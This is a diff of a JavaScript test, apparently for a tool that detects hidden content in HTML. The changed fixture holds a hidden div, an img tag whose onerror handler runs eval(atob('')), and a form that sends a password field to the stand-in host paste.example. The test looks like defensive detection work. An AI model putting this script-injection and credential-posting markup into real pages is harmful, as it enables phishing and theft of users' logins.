@@ -39,7 +39,7 @@ describe('what is hidden in HTML', () => {
   it('ends behind where it begins, with a part in a part', async () => {
     await replay('markup', {
       path: 'page.html',
-      text: `!doctype html>\n<div hidden><iframe srcdoc="Hello."></iframe>${order}<div>\n<table><tr><td><table><tr><td><BR><form action="https://paste.example/raw/1"><input type=password></form></table>\n`,
+      text: `!doctype html>\n<div hidden style="display:none"><iframe srcdoc="Hello."></iframe>${order}<div>\n<img src=x onerror="eval(atob(''))">\n<table><tr><td><table><tr><td><table><tr><td><BR><td><BR></table><td><BR></table><td><form action="https://paste.example/raw/1"><input type=password name=a></form></table>\n`,
     });
   });
 });
